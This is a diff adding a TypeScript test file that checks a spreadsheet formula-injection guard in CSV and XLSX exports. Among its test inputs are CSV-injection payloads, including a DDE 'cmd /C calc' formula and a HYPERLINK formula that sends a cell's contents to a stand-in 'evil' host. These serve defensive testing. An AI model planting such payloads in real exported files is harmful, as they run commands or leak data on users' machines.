@@ -1,0 +1,118 @@
+import { read as readWorkbook } from '@e965/xlsx';
+import fc from 'fast-check';
+import Papa from 'papaparse';
+import { describe, expect, it } from 'vitest';
+import type { ColumnShape } from '../../../../src-renderer/features/export/columns.ts';
+import { createCsvEncoder } from '../../../../src-renderer/features/export/csv-encoder.ts';
+import { createXlsxEncoder } from '../../../../src-renderer/features/export/xlsx-encoder.ts';
+import { readTableBytes } from '../../../../src-renderer/features/table-file/read-bytes.ts';
+import { orderTableOptions } from '../../../../src-renderer/features/table-file/table-file.ts';
+import {
+  type AddressFields,
+  emptyAddress,
+  tidyAddress,
+} from '../../../../src-shared/domain/address-entry.ts';
+import type { CsvStyle } from '../../../../src-shared/exports.ts';
+import { addressesOfTable, csvOfAddresses } from '../../../../src-shared/table/address-csv.ts';
+import { guarded, unguarded } from '../../../../src-shared/table/formula-guard.ts';
+import { parseAllRows } from '../../../../src-shared/table/table-text.ts';
+
+const formulas = [
+  '=1+1',
+  '+1',
+  '-1',
+  '@SUM(A1)',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '\ttext',
+  '\rtext',
+  '\ntext',
+  ' =1',
+  '  +1',
+  '\u00a0=1',
+  '\u200b=1',
+  '\ufeff=1',
+  '\u202e=1',
+  '\u0000=1',
+  "'=1",
+  "''=1",
+  "+1+cmd|' /C calc'!A0",
+  '-1+HYPERLINK("http://evil/?"&A1;"x")',
+  '+49 40 123 4567',
+];
+const texts = ['', 'A-1', 'a=1', "it's", "'quoted'", '00270', 'x@y.example', '1-2', '(+49) 40', ' spaced '];
+
+describe('the mark before a text that a spreadsheet would take for a formula', () => {
+  it.each(formulas)('stands before %j, once, and is taken off again', text => {
+    expect(guarded(text)).toBe(`'${text}`);
+    expect(unguarded(guarded(text))).toBe(text);
+  });
+
+  it.each(texts)('does not stand before %j', text => {
+    expect(guarded(text)).toBe(text);
+    expect(unguarded(text)).toBe(text);
+  });
+
+  it('never changes what is read back, whatever the text', () => {
+    const anything = fc
+      .tuple(fc.constantFrom('', "'", "''", ' ', '\t', '='), fc.string({ unit: 'grapheme' }))
+      .map(parts => parts.join(''));
+    fc.assert(fc.property(anything, text => unguarded(guarded(text)) === text));
+  });
+});
+
+const column: ColumnShape[] = [
+  { kind: 'text', heading: 'Reference' },
+  { kind: 'text', heading: 'Note' },
+];
+const cell = fc.oneof(fc.constantFrom(...formulas, ...texts), fc.string({ unit: 'grapheme-ascii' }));
+
+describe('what we write', () => {
+  it('as CSV has no cell that is a formula, and our own import reads it as it was', () => {
+    fc.assert(
+      fc.property(
+        fc.array(fc.tuple(cell, cell), { minLength: 1 }),
+        fc.constantFrom<CsvStyle['separator']>(';', ',', '\t'),
+        (rows, separator) => {
+          const encoder = createCsvEncoder(column, { separator, decimal: ',', hasByteOrderMark: true });
+          const text = Buffer.concat([encoder.rows(rows), encoder.end()]).toString();
+          expect(parseAllRows(text, separator).slice(1, -1)).toEqual(rows);
+        },
+      ),
+    );
+  });
+
+  it('as a workbook has text where it would be a formula, and our own import reads it as it was', async () => {
+    const rows = [...formulas, ...texts].filter(text => !text.includes('\u0000')).map(text => [text, 'x']);
+    const encoder = createXlsxEncoder(column, 'Orders');
+    encoder.rows(rows);
+    const bytes = encoder.end();
+    const sheet = readWorkbook(bytes, { cellFormula: true }).Sheets.Orders ?? {};
+    expect(rows.every((_, index) => sheet[`A${index + 2}`]?.f === undefined)).toBe(true);
+    const table = await readTableBytes(bytes, orderTableOptions);
+    const read = table.kind === 'read' ? table.sheets[0]?.rows.slice(1) : [];
+    expect(read).toEqual(rows);
+  });
+
+  it('as an address book has no cell that is a formula, and is read back as it was', () => {
+    const field = fc.constantFrom(...formulas, 'Weg 1');
+    const fields = fc.record({ name: field, address: field, contactName: field, phone: field, note: field });
+    fc.assert(
+      fc.property(fc.array(fields, { minLength: 1, maxLength: 5 }), typed => {
+        const addresses: AddressFields[] = typed.map(one =>
+          tidyAddress({ ...emptyAddress('stop'), countryCode: 'DE', ...one }),
+        );
+        const text = csvOfAddresses(addresses);
+        const seen = Papa.parse<string[]>(text, { delimiter: ';' }).data.flat();
+        expect(seen.filter(one => !one.startsWith("'") && guarded(one) !== one)).toEqual([]);
+        const read = addressesOfTable(parseAllRows(text));
+        expect(read.kind === 'read' && read.addresses).toEqual(addresses);
+      }),
+    );
+  });
+});
